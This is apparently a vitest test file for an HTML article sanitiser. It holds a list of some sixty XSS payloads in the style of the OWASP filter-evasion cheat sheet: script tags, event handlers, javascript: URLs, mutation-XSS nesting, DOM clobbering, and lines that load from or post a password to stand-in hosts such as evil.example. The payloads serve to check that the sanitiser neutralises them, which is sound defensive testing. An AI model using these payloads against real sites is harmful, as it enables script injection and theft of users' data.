import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import {
  pickSrcsetCandidate,
  sanitizeArticleHtml,
  type WindowLike,
} from '../../../src/shared/sanitize-html';

const win = new JSDOM('').window as unknown as WindowLike;
const clean = (html: string, baseUrl?: string): string =>
  sanitizeArticleHtml(html, win, baseUrl ? { baseUrl } : {});
/** A separate window to parse outputs back in, as a page showing them would. */
const viewer = new JSDOM('<!doctype html><body></body>').window.document;
const parse = (html: string): HTMLElement => {
  const box = viewer.createElement('div');
  box.innerHTML = html;
  return box;
};

/** Written for this test in the style of the OWASP XSS Filter Evasion Cheat Sheet and known DOMPurify bypasses. */
const PAYLOADS: string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//xss.example/.j></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<img srcset="javascript:alert(1) 1x, x 2x">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<image src=x onerror=alert(1)>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="&#x6A;avascript:alert(1)">click</a>`,
  `<a href="javascript&colon;alert(1)">click</a>`,
  `<a href="  java\nscript:alert(1)">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<body onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">XSS</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>`,
  `<object data="javascript:alert(1)"></object>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`,
  `<LINK REL="stylesheet" HREF="javascript:alert(1);">`,
  `<BASE HREF="javascript:alert(1);//">`,
  `<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</LI></UL>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>`,
  `<p style="width: expression(alert(1))">x</p>`,
  `<span style="background:url(https://evil.example/track.png)">x</span>`,
  `<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>`,
  `<form action="https://evil.example"><input name="password" autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)></audio>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<img src="https://ok.example/a.png" id="cookie" name="getElementById">`,
  `<form name="body"><img name="attributes"></form><a id="defaultView" href="https://ok.example">x</a>`,
  `<a href="https://ok.example" target="_blank" ping="https://track.example">ok</a>`,
  `<blockquote cite="javascript:alert(1)">q</blockquote>`,
  `<span data-ra-highlight="1" data-evil="x" onclick="alert(1)">kept</span>`,
  `<a href="https://ok.example" target="_top">x</a>`,
  `<IMG LOWSRC="javascript:alert(1)" DYNSRC="javascript:alert(1)">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<a href="https://ok.example/?q=<script>alert(1)</script>">x</a>`,
];

const ALLOWED_OUTPUT_TAGS = new Set(
  'article section div header footer p h1 h2 h3 h4 h5 h6 blockquote pre code ul ol li dl dt dd hr br figure figcaption img table caption thead tbody tfoot tr th td col colgroup a em strong b i u s del ins sub sup small mark span abbr cite q time kbd samp var wbr'.split(
    ' ',
  ),
);

/** Everything that must hold for any sanitiser output, checked on the output parsed back with a DOM. */
function expectSafe(output: string): void {
  const body = parse(output);
  for (const el of Array.from(body.querySelectorAll('*'))) {
    const tag = el.localName;
    expect(ALLOWED_OUTPUT_TAGS.has(tag), `tag <${tag}> in ${output}`).toBe(true);
    expect(el.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name, value } of Array.from(el.attributes)) {
      expect(name.startsWith('on'), `${name} in ${output}`).toBe(false);
      expect([
        'style',
        'id',
        'name',
        'srcset',
        'formaction',
        'action',
        'background',
        'xlink:href',
        'ping',
        'class',
        'lowsrc',
        'dynsrc',
      ]).not.toContain(name);
      // What a URL parser ignores: whitespace and C0 controls anywhere in the scheme.
      const compact = Array.from(value)
        .filter((c) => c.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      expect(compact, `${name}=${value}`).not.toMatch(/^(javascript|vbscript):/);
      if (name.startsWith('data-')) expect(name).toMatch(/^data-ra-/);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/);
      if (name === 'src')
        expect(value).toMatch(/^(https?:|ra-image:|data:image\/(png|jpeg|gif|webp|avif|bmp);)/);
    }
    if (tag === 'a' && el.getAttribute('target')) {
      expect(el.getAttribute('target')).toBe('_blank');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer');
    }
  }
  expect(output).not.toMatch(
    /<(script|iframe|frame|object|embed|form|input|meta|link|base|style|svg|math|template|noscript)\b/i,
  );
}

describe('sanitizeArticleHtml: XSS payloads', () => {
  it(`has at least 30 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(PAYLOADS.map((p, i) => [i, p] as const))(
    'payload %i is neutralised: %s',
    (_i, payload) => {
      expectSafe(clean(payload));
      // Also embedded in an article, and when a base URL would resolve relative junk.
      expectSafe(
        clean(`<article><p>before</p>${payload}<p>after</p></article>`, 'https://news.example/a'),
      );
    },
  );

  it('survives all payloads concatenated, and a second pass changes nothing', () => {
    const once = clean(PAYLOADS.join('\n'));
    expectSafe(once);
    expect(clean(once)).toBe(once);
  });

  it('keeps our data-ra-* attributes on span and mark only', () => {
    const out = parse(
      clean(
        '<p><span data-ra-highlight="h1" data-ra-color="yellow">x</span><mark data-ra-figure="f2">y</mark><p data-ra-x="1">z</p></p>',
      ),
    );
    expect(out.querySelector('span')?.getAttribute('data-ra-highlight')).toBe('h1');
    expect(out.querySelector('span')?.getAttribute('data-ra-color')).toBe('yellow');
    expect(out.querySelector('mark')?.getAttribute('data-ra-figure')).toBe('f2');
    expect(out.querySelector('p[data-ra-x]')).toBeNull();
  });

  it('adds rel=noopener noreferrer to new-tab links and drops other targets', () => {
    const out = parse(
      clean(
        '<a href="https://a.example" target="_BLANK" rel="opener">a</a><a href="https://b.example" target="_self">b</a>',
      ),
    );
    const [a, b] = Array.from(out.querySelectorAll('a'));
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(b?.hasAttribute('target')).toBe(false);
    expect(b?.hasAttribute('rel')).toBe(false);
  });

  it('refuses a window DOMPurify cannot use instead of returning the input', () => {
    expect(() => sanitizeArticleHtml('<img src=x onerror=alert(1)>', {} as WindowLike)).toThrow(
      /not supported/,
    );
  });
});

describe('sanitizeArticleHtml: article structure', () => {
  const ARTICLE = `
    <article class="story" id="main">
      <h1 style="color:red">Giá vàng tăng kỷ lục</h1>
      <p class="sapo">Giá vàng miếng <strong>SJC</strong> tăng lên <em>92 triệu đồng</em> mỗi lượng, theo <a href="/thi-truong" target="_blank">thị trường</a>.</p>
      <figure>
        <picture>
          <source srcset="https://img.example/vang.webp" type="image/webp">
          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="https://img.example/vang-800.jpg"
               srcset="https://img.example/vang-400.jpg 400w, https://img.example/vang-1200.jpg 1200w, https://img.example/vang-2400.jpg 2400w"
               alt="Vàng miếng SJC" width="800" height="450" loading="lazy">
        </picture>
        <figcaption>Vàng miếng tại một cửa hàng ở Hà Nội. <em>Ảnh: Giang Huy</em></figcaption>
      </figure>
      <h2>Chênh lệch với thế giới</h2>
      <blockquote><p>"Chênh lệch 18 triệu đồng là bất thường," một chuyên gia nói.</p></blockquote>
      <ul><li>Vàng nhẫn: 77 triệu đồng</li><li>Vàng thế giới: 2.380 USD/ounce</li></ul>
      <table><caption>Giá vàng</caption><thead><tr><th scope="col">Loại</th><th>Giá</th></tr></thead><tbody><tr><td>SJC</td><td>92</td></tr></tbody></table>
      <p>Cập nhật <time datetime="2024-05-10T09:00">9 giờ sáng 10/5</time>. Công thức: H<sub>2</sub>O, x<sup>2</sup>.</p>
      <pre><code>const gia = 92;</code></pre>
      <hr>
      <p>Liên hệ <a href="mailto:toasoan@example.vn">toà soạn</a>.<br>Hết.</p>
      <div class="share"><button onclick="share()">Chia sẻ</button><form><input type="email"></form></div>
      <script>trackPageView()</script>
    </article>`;

  const out = parse(clean(ARTICLE, 'https://news.example.vn/kinh-te/gia-vang.html'));

  it('keeps paragraphs, headings, lists, tables, quotes and inline markup', () => {
    expect(out.querySelector('h1')?.textContent).toBe('Giá vàng tăng kỷ lục');
    expect(out.querySelector('h2')?.textContent).toBe('Chênh lệch với thế giới');
    expect(out.querySelectorAll('p')).toHaveLength(4);
    expect(out.querySelector('p strong')?.textContent).toBe('SJC');
    expect(out.querySelectorAll('li')).toHaveLength(2);
    expect(out.querySelector('table caption')?.textContent).toBe('Giá vàng');
    expect(out.querySelector('th')?.getAttribute('scope')).toBe('col');
    expect(out.querySelector('blockquote p')).not.toBeNull();
    expect(out.querySelector('time')?.getAttribute('datetime')).toBe('2024-05-10T09:00');
    expect(out.querySelector('sub')?.textContent).toBe('2');
    expect(out.querySelector('pre code')?.textContent).toBe('const gia = 92;');
    expect(out.querySelector('hr')).not.toBeNull();
    expect(out.querySelector('br')).not.toBeNull();
  });

  it('keeps the figure with one image source and its caption', () => {
    const img = out.querySelector('figure img');
    expect(img?.getAttribute('src')).toBe('https://img.example/vang-1200.jpg');
    expect(img?.getAttribute('alt')).toBe('Vàng miếng SJC');
    expect(img?.getAttribute('width')).toBe('800');
    expect(img?.hasAttribute('srcset')).toBe(false);
    expect(out.querySelectorAll('img')).toHaveLength(1);
    expect(out.querySelector('figure figcaption')?.textContent).toContain('Ảnh: Giang Huy');
  });

  it('resolves relative links against the page and keeps mailto', () => {
    const links = Array.from(out.querySelectorAll('a')).map((a) => a.getAttribute('href'));
    expect(links).toEqual(['https://news.example.vn/thi-truong', 'mailto:toasoan@example.vn']);
  });

  it('drops the page chrome: buttons, forms, scripts, classes, ids, styles', () => {
    expect(out.textContent).not.toContain('Chia sẻ');
    expect(out.textContent).not.toContain('trackPageView');
    expect(out.querySelector('[class], [id], [style], button, form, input, script')).toBeNull();
    expectSafe(out.innerHTML);
  });

  it('keeps ra-image: and raster data: sources, drops relative ones without a base URL', () => {
    const html = clean(
      '<img src="ra-image:abc-123" alt="a"><img src="data:image/png;base64,iVBORw0KGgo=" alt="b"><img src="/rel.png" alt="c">',
    );
    const imgs = Array.from(parse(html).querySelectorAll('img')).map((i) => i.getAttribute('alt'));
    expect(imgs).toEqual(['a', 'b']);
  });
});

describe('pickSrcsetCandidate', () => {
  it.each([
    ['a.jpg 400w, b.jpg 1200w, c.jpg 2400w', 'b.jpg'],
    ['a.jpg 1x, b.jpg 2x, c.jpg 3x', 'b.jpg'],
    ['only.jpg', 'only.jpg'],
    ['big.jpg 3000w, huge.jpg 4000w', 'big.jpg'],
    [
      'https://cdn.example/a.jpg?w=400,h=300 400w, https://cdn.example/b.jpg 800w',
      'https://cdn.example/b.jpg',
    ],
    ['', null],
  ])('%s → %s', (srcset, expected) => {
    expect(pickSrcsetCandidate(srcset)).toBe(expected);
  });
});
